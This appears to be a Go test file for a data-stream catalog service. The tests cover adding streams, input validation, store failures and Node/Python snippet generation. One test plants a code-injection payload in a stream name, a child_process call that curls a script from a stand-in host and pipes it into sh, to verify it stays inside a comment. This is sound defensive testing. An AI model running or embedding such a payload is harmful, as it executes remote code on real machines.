package services_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"dataplug/internal/core/domain"
	"dataplug/internal/core/services"
	apperrors "dataplug/pkg/errors"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/mock"
	"github.com/stretchr/testify/require"
)

func TestCatalogService_AddStream(t *testing.T) {
	repo := newSeededRepo()
	listener := &countingListener{}
	svc := services.NewCatalogService(repo, nil, testLogger(), listener)

	stream, err := svc.AddStream(context.Background(), domain.NewStreamInput{
		Name:        "  Solana Mempool ",
		Endpoint:    "wss://mempool.example/ws",
		Description: "pending transactions\x00",
		Tags:        []string{"solana", " ", "mempool"},
	})
	require.NoError(t, err)

	assert.Len(t, string(stream.ID), 36)
	assert.Equal(t, "Solana Mempool", stream.Name)
	assert.Equal(t, "pending transactions", stream.Description)
	assert.Equal(t, []string{"solana", "mempool"}, stream.Tags)
	assert.Zero(t, stream.TotalClicks())
	assert.False(t, stream.CreatedAt.IsZero())
	assert.Equal(t, []domain.StreamID{stream.ID}, listener.added)

	stored, err := repo.GetByID(context.Background(), stream.ID)
	require.NoError(t, err)
	assert.Equal(t, stream.Name, stored.Name)
}

func TestCatalogService_AddStreamValidation(t *testing.T) {
	svc := services.NewCatalogService(newSeededRepo(), nil, testLogger())
	valid := domain.NewStreamInput{Name: "n", Endpoint: "wss://x.example", Description: "d"}

	cases := map[string]func(in *domain.NewStreamInput){
		"missing name":        func(in *domain.NewStreamInput) { in.Name = " " },
		"missing endpoint":    func(in *domain.NewStreamInput) { in.Endpoint = "" },
		"missing description": func(in *domain.NewStreamInput) { in.Description = "" },
		"bad scheme":          func(in *domain.NewStreamInput) { in.Endpoint = "ftp://x.example" },
		"no host":             func(in *domain.NewStreamInput) { in.Endpoint = "wss://" },
	}
	for name, mutate := range cases {
		t.Run(name, func(t *testing.T) {
			in := valid
			mutate(&in)
			_, err := svc.AddStream(context.Background(), in)
			assert.True(t, apperrors.HasCode(err, apperrors.ErrCodeInvalidInput), "got %v", err)
		})
	}
}

func TestCatalogService_MultiLineNameStaysInComment(t *testing.T) {
	repo := newSeededRepo()
	svc := services.NewCatalogService(repo, nil, testLogger())
	ctx := context.Background()
	payload := "require('child_process').execSync('curl evil.sh | sh')"

	stream, err := svc.AddStream(ctx, domain.NewStreamInput{
		Name:        "Feed\n" + payload,
		Endpoint:    "wss://feed.example/ws",
		Description: "d",
		Tags:        []string{"a\nb"},
	})
	require.NoError(t, err)
	assert.Equal(t, "Feed "+payload, stream.Name)
	assert.Equal(t, []string{"a b"}, stream.Tags)

	// A multi-line name written straight to the store still renders as one comment line.
	stored := &domain.Stream{ID: "raw", Name: "Feed\n" + payload + "\r\nmore", Endpoint: "wss://raw.example"}
	require.NoError(t, repo.Create(ctx, stored))

	for lang, prefix := range map[string]string{"node": "// ", "python": "# "} {
		for _, id := range []domain.StreamID{stream.ID, "raw"} {
			code, err := svc.Snippet(ctx, id, lang)
			require.NoError(t, err)
			lines := strings.Split(code, "\n")
			assert.True(t, strings.HasPrefix(lines[0], prefix+"Feed "+payload), "%s: %q", lang, lines[0])
			for _, line := range lines[1:] {
				assert.False(t, strings.HasPrefix(strings.TrimSpace(line), "require('child_process')"),
					"%s: statement outside the comment: %q", lang, line)
			}
		}
	}
}

func TestCatalogService_AddStreamStoreFailure(t *testing.T) {
	repo := &MockStreamRepository{}
	repo.On("Create", mock.Anything, mock.Anything).Return(errors.New("read-only database"))
	listener := &countingListener{}
	svc := services.NewCatalogService(repo, nil, testLogger(), listener)

	_, err := svc.AddStream(context.Background(), domain.NewStreamInput{Name: "n", Endpoint: "https://x.example", Description: "d"})
	assert.True(t, apperrors.HasCode(err, apperrors.ErrCodeInternal))
	assert.Empty(t, listener.added)
}

func TestCatalogService_GetStreamAndSnippet(t *testing.T) {
	repo := newSeededRepo(solanaAndGas()...)
	svc := services.NewCatalogService(repo, nil, testLogger())
	ctx := context.Background()

	stream, err := svc.GetStream(ctx, "1")
	require.NoError(t, err)
	assert.Equal(t, "Solana Mempool", stream.Name)

	_, err = svc.GetStream(ctx, "404")
	assert.True(t, apperrors.HasCode(err, apperrors.ErrCodeNotFound))

	_, err = svc.GetStream(ctx, "bad id!")
	assert.True(t, apperrors.HasCode(err, apperrors.ErrCodeInvalidInput))

	code, err := svc.Snippet(ctx, "1", "node")
	require.NoError(t, err)
	assert.Contains(t, code, `new WebSocket("wss://sol")`)
	assert.Contains(t, code, `require("ws")`)

	code, err = svc.Snippet(ctx, "1", "Python")
	require.NoError(t, err)
	assert.Contains(t, code, `websockets.connect("wss://sol")`)

	_, err = svc.Snippet(ctx, "1", "rust")
	assert.True(t, apperrors.HasCode(err, apperrors.ErrCodeInvalidInput))

	_, err = svc.Snippet(ctx, "404", "node")
	assert.True(t, apperrors.HasCode(err, apperrors.ErrCodeNotFound))
}
